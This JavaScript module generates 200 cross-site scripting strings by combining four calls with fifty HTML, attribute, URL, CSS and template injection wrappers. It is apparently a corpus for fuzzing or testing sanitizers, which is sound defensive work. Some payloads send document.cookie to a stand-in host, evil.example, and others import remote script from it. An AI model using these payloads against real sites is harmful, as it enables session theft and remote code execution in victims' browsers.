// 200 strings that become a script, a request or a broken page wherever text is taken for HTML, an attribute, an address or CSS.
const calls = ["alert(1)", "window.__broken=1", "fetch('//evil.example/'+document.cookie)", "import('//evil.example/x.js')"];
const frames = [
	c => `<script>${c}</script>`, c => `"><script>${c}</script>`, c => `'><script>${c}</script>`, c => `</title><script>${c}</script>`, c => `</textarea><script>${c}</script>`,
	c => `</style><script>${c}</script>`, c => `</script><script>${c}</script>`, c => `--><script>${c}</script>`, c => `]]><script>${c}</script>`, c => `<ScRiPt>${c}</sCrIpT>`,
	c => `<img src=x onerror="${c}">`, c => `<img src=x onerror=${c}//`, c => `"><img src=x onerror="${c}">`, c => `<svg onload="${c}">`, c => `<svg/onload=${c}>`,
	c => `<svg><script>${c}</script></svg>`, c => `<svg><animate onbegin="${c}" attributeName=x dur=1s>`, c => `<body onload="${c}">`, c => `<input autofocus onfocus="${c}">`, c => `<select autofocus onfocus="${c}">`,
	c => `<details open ontoggle="${c}">`, c => `<video><source onerror="${c}"></video>`, c => `<audio src=x onerror="${c}">`, c => `<iframe srcdoc="<script>${c}</script>"></iframe>`, c => `<iframe src="javascript:${c}"></iframe>`,
	c => `<object data="javascript:${c}"></object>`, c => `<embed src="javascript:${c}">`, c => `<a href="javascript:${c}">x</a>`, c => `javascript:${c}`, c => `JaVaScRiPt:${c}`,
	c => ` javascript:${c}`, c => `data:text/html,<script>${c}</script>`, c => `vbscript:${c}`, c => `" onmouseover="${c}" x="`, c => `' onfocus='${c}' autofocus='`,
	c => `x" autofocus onfocus="${c}`, c => `<math><mi xlink:href="javascript:${c}">x</mi></math>`, c => `<form action="javascript:${c}"><button>x</button></form>`, c => `<button formaction="javascript:${c}">x</button>`, c => `<meta http-equiv=refresh content="0;url=javascript:${c}">`,
	c => `<base href="//evil.example/"><x a="${c}">`, c => `<link rel=stylesheet href="//evil.example/x.css" data-x="${c}">`, c => `<style>@import '//evil.example/x.css';/*${c}*/</style>`, c => `<div style="background:url(//evil.example/?${c})">`, c => `<template><script>${c}</script></template>`,
	c => `{{constructor.constructor("${c}")()}}`, c => '${' + c + '}', c => `<%= ${c} %>`, c => `&lt;script&gt;${c}&lt;/script&gt;`, c => `%3Cscript%3E${encodeURIComponent(c)}%3C/script%3E`,
];
export const strings = calls.flatMap(c => frames.map(f => f(c)));
